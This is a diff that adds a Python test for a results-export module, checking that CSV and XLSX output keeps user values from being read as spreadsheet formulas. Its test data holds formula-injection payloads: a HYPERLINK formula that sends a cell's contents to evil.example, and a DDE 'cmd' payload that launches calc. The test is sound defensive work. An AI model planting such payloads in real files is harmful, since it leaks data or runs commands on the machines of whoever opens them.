@@ -300,3 +300,21 @@ def test_year_over_year_uses_the_base_years_scale_and_compares_units(db: Session
     city = compare_runs(db, first, second, "city", Scope.everything(), secret_key=SECRET)
     assert all(abs(r[city.columns.index("change")]) < 3 for r in city.rows)
     assert any(r[col["suppressed"]] for r in table.rows if r[col["school"]] == "es-tiny")
+
+
+def test_exports_never_hand_a_spreadsheet_a_formula(tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    from assessment.results_export import ResultTable
+
+    table = ResultTable(("school", "n", "mean"), [['=HYPERLINK("http://evil.example/?x="&A1,"click")', 12, -3.5],
+                                                   ["+cmd|' /C calc'!A0", 1, None], ["@SUM(1)", 2, 4.0]])
+    write_table(table, "csv", tmp_path / "t.csv")
+    rows = list(csv.reader(io.StringIO((tmp_path / "t.csv").read_text(encoding="utf-8"))))
+    assert [r[0] for r in rows[1:]] == ["'" + r[0] for r in table.rows]
+    assert rows[1][2] == "-3.5"  # numbers stay numbers
+    write_table(table, "xlsx", tmp_path / "t.xlsx")
+    ws = load_workbook(tmp_path / "t.xlsx").active
+    names = [ws.cell(row=k, column=1) for k in range(2, 5)]
+    assert all(c.data_type == "s" for c in names) and names[0].value == table.rows[0][0]
+    assert ws.cell(row=2, column=3).value == -3.5
